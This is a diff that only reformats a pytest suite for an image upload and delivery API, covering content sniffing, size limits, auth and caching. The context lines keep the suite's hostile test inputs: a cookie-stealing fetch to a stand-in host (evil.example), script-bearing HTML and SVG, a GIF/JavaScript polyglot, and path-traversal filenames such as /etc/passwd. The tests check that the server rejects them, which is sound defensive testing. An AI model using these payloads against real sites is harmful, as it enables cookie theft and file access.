@@ -3,6 +3,7 @@ deletion, quotas, as a client sees them over HTTP.
 
 Every image is made with Pillow right here; every test runs on SQLite and MariaDB.
 """
+
 from __future__ import annotations
 
 import asyncio
@@ -151,8 +152,10 @@ async def test_the_content_decides_the_format_not_the_content_type_or_name(api, 
 
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 JAVASCRIPT = b"fetch('https://evil.example/?c=' + document.cookie);\n"
-SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-       b'<script>alert(1)</script></svg>')
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>alert(1)</script></svg>"
+)
 
 
 @pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
@@ -164,9 +167,18 @@ async def test_non_images_named_jpg_are_415(api, user, app, body, raw):
     assert_nothing_stored(app)
 
 
-@pytest.mark.parametrize("content_type", ["text/html", "application/javascript", "image/svg+xml; charset=utf-8",
-                                          "application/octet-stream", "text/plain", ""],
-                         ids=["html", "javascript", "svg", "octet-stream", "text", "none"])
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        "text/html",
+        "application/javascript",
+        "image/svg+xml; charset=utf-8",
+        "application/octet-stream",
+        "text/plain",
+        "",
+    ],
+    ids=["html", "javascript", "svg", "octet-stream", "text", "none"],
+)
 @gen_test
 async def test_raw_bodies_must_be_images_by_content(api, user, app, content_type):
     body = SVG if "svg" in content_type else HTML
@@ -175,17 +187,21 @@ async def test_raw_bodies_must_be_images_by_content(api, user, app, content_type
     assert_nothing_stored(app)
 
 
-@pytest.mark.parametrize("make, why", [
-    (lambda: jpeg((64, 48))[:300], "truncated jpeg"),
-    (lambda: jpeg((64, 48))[:-200], "jpeg missing its end"),
-    (lambda: b"\xff\xd8\xff\xe0" + os.urandom(2000), "jpeg magic, garbage after"),
-    (lambda: png()[:60], "truncated png"),
-    (lambda: b"GIF89a/*" + JAVASCRIPT + b"*/", "gif/javascript polyglot"),
-    (lambda: png_claiming(50000, 50000), "png header claims 50000x50000"),
-    (lambda: gif_with_screen(65535, 65535), "gif with a huge logical screen"),
-    (lambda: webp_canvas(16384, 16384), "webp canvas claims 16384x16384"),
-    (lambda: gif_with_frames(1001), "gif with 1001 frames"),
-], ids=lambda v: v if isinstance(v, str) else "")
+@pytest.mark.parametrize(
+    "make, why",
+    [
+        (lambda: jpeg((64, 48))[:300], "truncated jpeg"),
+        (lambda: jpeg((64, 48))[:-200], "jpeg missing its end"),
+        (lambda: b"\xff\xd8\xff\xe0" + os.urandom(2000), "jpeg magic, garbage after"),
+        (lambda: png()[:60], "truncated png"),
+        (lambda: b"GIF89a/*" + JAVASCRIPT + b"*/", "gif/javascript polyglot"),
+        (lambda: png_claiming(50000, 50000), "png header claims 50000x50000"),
+        (lambda: gif_with_screen(65535, 65535), "gif with a huge logical screen"),
+        (lambda: webp_canvas(16384, 16384), "webp canvas claims 16384x16384"),
+        (lambda: gif_with_frames(1001), "gif with 1001 frames"),
+    ],
+    ids=lambda v: v if isinstance(v, str) else "",
+)
 @gen_test
 async def test_corrupt_truncated_or_oversized_images_are_422(api, user, app, make, why):
     response = await upload(api, user.token, make())
@@ -211,14 +227,19 @@ async def test_empty_body_is_422(api, user, app, raw):
     assert_nothing_stored(app)
 
 
-@pytest.mark.parametrize("body, why", [
-    (b"--nope\r\nnot a multipart body at all", "garbage"),
-    (b"", "no parts"),
-], ids=["garbage", "no-parts"])
+@pytest.mark.parametrize(
+    "body, why",
+    [
+        (b"--nope\r\nnot a multipart body at all", "garbage"),
+        (b"", "no parts"),
+    ],
+    ids=["garbage", "no-parts"],
+)
 @gen_test
 async def test_malformed_multipart_is_422(api, user, app, body, why):
-    response = await api.post("/images", body=body, token=user.token,
-                              headers={"Content-Type": "multipart/form-data; boundary=abc"})
+    response = await api.post(
+        "/images", body=body, token=user.token, headers={"Content-Type": "multipart/form-data; boundary=abc"}
+    )
     assert response.code == 422 and response.error == "invalid_field", why
     assert_nothing_stored(app)
 
@@ -231,8 +252,13 @@ async def test_multipart_without_the_image_field_is_422(api, user, app):
     assert_nothing_stored(app)
 
 
-HOSTILE_NAMES = [b"../../escaped.jpg", b"..%2f..%2fescaped.jpg", b"x.jpg\x00.html", b"/etc/passwd",
-                 b"..\\..\\escaped.jpg"]
+HOSTILE_NAMES = [
+    b"../../escaped.jpg",
+    b"..%2f..%2fescaped.jpg",
+    b"x.jpg\x00.html",
+    b"/etc/passwd",
+    b"..\\..\\escaped.jpg",
+]
 
 
 @pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "encoded", "nul", "absolute", "backslash"])
@@ -264,8 +290,10 @@ LIMIT = 64 * KIB
 
 def request_head(token: str, content_type: str, *, length: int | None = None, extra: str = "") -> bytes:
     framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
-    return (f"POST /images HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
-            f"Content-Type: {content_type}\r\n{framing}\r\n{extra}\r\n").encode()
+    return (
+        f"POST /images HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
+        f"Content-Type: {content_type}\r\n{framing}\r\n{extra}\r\n"
+    ).encode()
 
 
 def tasks() -> set[asyncio.Task[Any]]:
@@ -282,8 +310,7 @@ async def assert_handlers_end(before: set[asyncio.Task[Any]]) -> None:
 
 
 @pytest.mark.settings(max_upload_bytes=LIMIT)
-@pytest.mark.parametrize("content_type", ["image/jpeg", "multipart/form-data; boundary=abc"],
-                         ids=["raw", "multipart"])
+@pytest.mark.parametrize("content_type", ["image/jpeg", "multipart/form-data; boundary=abc"], ids=["raw", "multipart"])
 @gen_test
 async def test_declared_length_over_the_limit_is_413_before_the_body(app, user, http_port, content_type):
     head = request_head(user.token, content_type, length=10 * 1024 * 1024)
@@ -328,7 +355,7 @@ async def test_chunked_body_over_the_limit_is_413_mid_stream(app, user, http_por
         prefix = prefix.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n"  # part headers only; the file follows
         head = request_head(user.token, f"multipart/form-data; boundary={boundary}")
     data = prefix + b"\xff\xd8\xff\xe0" + os.urandom(LIMIT + 40 * KIB)
-    pieces = [chunked(data[i:i + 8 * KIB]) for i in range(0, len(data), 8 * KIB)]  # never the final 0 chunk
+    pieces = [chunked(data[i : i + 8 * KIB]) for i in range(0, len(data), 8 * KIB)]  # never the final 0 chunk
     status, headers, body = await raw_http(http_port, head, pieces)
     assert status == 413 and headers["content-type"].startswith("application/json")
     assert json_error(body) == "too_large"
@@ -339,7 +366,7 @@ async def test_chunked_body_over_the_limit_is_413_mid_stream(app, user, http_por
 @gen_test
 async def test_chunked_upload_within_the_limit_is_stored(app, user, http_port):
     data = jpeg((40, 30))
-    pieces = [chunked(data[i:i + 100]) for i in range(0, len(data), 100)] + [b"0\r\n\r\n"]
+    pieces = [chunked(data[i : i + 100]) for i in range(0, len(data), 100)] + [b"0\r\n\r\n"]
     head = request_head(user.token, "image/jpeg", extra="Connection: close\r\n")
     status, _, body = await raw_http(http_port, head, pieces)
     assert status == 201, body
@@ -373,8 +400,9 @@ async def test_client_going_away_mid_upload_leaves_no_temp_file(app, user, http_
 def disk_writes(monkeypatch) -> list[int]:
     """Bytes of each write of an upload body to its temp file."""
     writes, real_write = [], UploadSpool.write
-    monkeypatch.setattr(UploadSpool, "write", lambda spool, chunks: (writes.append(sum(map(len, chunks))),
-                                                                      real_write(spool, chunks))[1])
+    monkeypatch.setattr(
+        UploadSpool, "write", lambda spool, chunks: (writes.append(sum(map(len, chunks))), real_write(spool, chunks))[1]
+    )
     return writes
 
 
@@ -427,8 +455,9 @@ async def test_client_going_away_mid_small_upload_gives_the_memory_back(app, use
 # -- delivery: headers, 304, Range, 404 ------------------------------------------------------------
 
 
-@pytest.mark.parametrize("fmt, mime", [("jpeg", "image/jpeg"), ("png", "image/png"), ("gif", "image/gif"),
-                                       ("webp", "image/webp")])
+@pytest.mark.parametrize(
+    "fmt, mime", [("jpeg", "image/jpeg"), ("png", "image/png"), ("gif", "image/gif"), ("webp", "image/webp")]
+)
 @gen_test
 async def test_delivery_headers(api, user, fmt, mime):
     data = encode(gradient((40, 30)).convert("P") if fmt == "gif" else gradient((40, 30)), fmt.upper())
@@ -449,7 +478,7 @@ async def test_if_none_match_gives_304(api, user):
     image = await uploaded(api, user.token, jpeg())
     etag = f'"{image["sha256"]}"'
     # "*" matches any existing representation: for GET and HEAD, 304 (RFC 9110 13.1.2).
-    for header in (etag, f'"other", {etag}', f"W/{etag}", "*", ' * '):
+    for header in (etag, f'"other", {etag}', f"W/{etag}", "*", " * "):
         response = await fetch(api, image["url"], headers={"If-None-Match": header})
         assert response.code == 304, header
         assert response.body == b"" and response.headers["ETag"] == etag
@@ -508,9 +537,17 @@ async def test_head_gives_the_headers_without_the_body(api, user):
 async def test_unknown_ids_and_wrong_extensions_are_404(api, user):
     image = await uploaded(api, user.token, jpeg())
     base = path_of(image["url"])[: -len(".jpg")]
-    for path in (base + ".png", base + ".gif", base + ".webp", base + ".jpeg", base + ".JPG",
-                 "/images/" + secrets.token_urlsafe(16) + ".jpg", "/images/short.jpg",
-                 "/images/" + "a" * 200 + ".jpg", base + ".jpg/extra"):
+    for path in (
+        base + ".png",
+        base + ".gif",
+        base + ".webp",
+        base + ".jpeg",
+        base + ".JPG",
+        "/images/" + secrets.token_urlsafe(16) + ".jpg",
+        "/images/short.jpg",
+        "/images/" + "a" * 200 + ".jpg",
+        base + ".jpg/extra",
+    ):
         response = await api.get(path)
         assert response.code == 404, path
         assert_error(response, 404, "not_found")
@@ -570,8 +607,9 @@ async def test_thumbnails_never_upscale(api, user, app):
 
 
 # Only the spellings the links use: nginx's cache keys on the raw argument ("0160" would miss it).
-@pytest.mark.parametrize("width", ["100", "0", "-160", "abc", "2000", "160.0", "", "1600", "1e3", "0160",
-                                   "00160", "+160", "000001280"])
+@pytest.mark.parametrize(
+    "width", ["100", "0", "-160", "abc", "2000", "160.0", "", "1600", "1e3", "0160", "00160", "+160", "000001280"]
+)
 @gen_test
 async def test_other_widths_are_422(api, user, width):
     image = await uploaded(api, user.token, jpeg())
@@ -630,8 +668,7 @@ async def test_a_thumbnail_is_made_once_even_when_asked_for_concurrently(api, us
 # -- auth on every call ----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("authorization", [None, "Bearer ", "Bearer not-a-real-token", "Basic dXNlcjpwYXNz",
-                                           "bearer"])
+@pytest.mark.parametrize("authorization", [None, "Bearer ", "Bearer not-a-real-token", "Basic dXNlcjpwYXNz", "bearer"])
 @gen_test
 async def test_every_images_api_call_needs_a_valid_token(api, user, app, authorization):
     image = await uploaded(api, user.token, jpeg())
@@ -750,11 +787,22 @@ async def test_bad_cursor_is_422(api, user, cursor):
     assert_error(response, 422, "invalid_field", "cursor")
 
 
-@pytest.mark.parametrize("name, value", [
-    ("cursor", "\x01" * 257), ("cursor", " \t\r\n\x0b\x0c"), ("cursor", "djE6NQ\x00"),
-    ("cursor", "\x1fdjE6NQ"), ("cursor", "dj E6NQ"), ("cursor", "djE6MDU"),
-    ("limit", "\x01" * 257), ("limit", "20\x0b"), ("limit", " 20"), ("limit", "\u00b2"), ("limit", "\u0663"),
-])
+@pytest.mark.parametrize(
+    "name, value",
+    [
+        ("cursor", "\x01" * 257),
+        ("cursor", " \t\r\n\x0b\x0c"),
+        ("cursor", "djE6NQ\x00"),
+        ("cursor", "\x1fdjE6NQ"),
+        ("cursor", "dj E6NQ"),
+        ("cursor", "djE6MDU"),
+        ("limit", "\x01" * 257),
+        ("limit", "20\x0b"),
+        ("limit", " 20"),
+        ("limit", "\u00b2"),
+        ("limit", "\u0663"),
+    ],
+)
 @gen_test
 async def test_control_characters_and_lookalikes_in_query_arguments_are_422(api, user, name, value):
     """Checked as sent: not stripped to an empty (absent) value, and no other spelling of a valid one."""
@@ -947,8 +995,7 @@ async def test_a_missing_blob_is_a_json_404_and_logs_an_error(api, user, app, ca
     Path(app.services.store.local_path(image["sha256"])).unlink()
     for url in (image["url"], image["thumbnails"]["160"]):
         assert_error(await fetch(api, url), 404, "not_found")
-    missing = [r for r in caplog.records
-               if r.levelname == "ERROR" and "missing from the media store" in r.getMessage()]
+    missing = [r for r in caplog.records if r.levelname == "ERROR" and "missing from the media store" in r.getMessage()]
     assert len(missing) == 2
 
 
@@ -1063,8 +1110,9 @@ async def test_the_same_bytes_uploaded_again_are_stored_without_a_second_decode(
     assert len(decoded) == 1
     for image in again:
         assert image["id"] != first["id"]
-        assert {k: image[k] for k in ("sha256", "format", "width", "height", "bytes")} == \
-               {k: first[k] for k in ("sha256", "format", "width", "height", "bytes")}
+        assert {k: image[k] for k in ("sha256", "format", "width", "height", "bytes")} == {
+            k: first[k] for k in ("sha256", "format", "width", "height", "bytes")
+        }
         assert (await fetch(api, image["url"])).code == 200
 
     # The blob's file gone (whatever the reason): the upload is decoded again and the file is back.
@@ -1076,8 +1124,7 @@ async def test_the_same_bytes_uploaded_again_are_stored_without_a_second_decode(
 
 
 @gen_test
-async def test_another_users_bytes_are_decoded_so_timing_cannot_tell_they_were_uploaded(api, user, outbox,
-                                                                                         monkeypatch):
+async def test_another_users_bytes_are_decoded_so_timing_cannot_tell_they_were_uploaded(api, user, outbox, monkeypatch):
     decoded = []
     process_upload = imaging.process_upload
     monkeypatch.setattr(imaging, "process_upload", lambda *a: (decoded.append(a), process_upload(*a))[1])
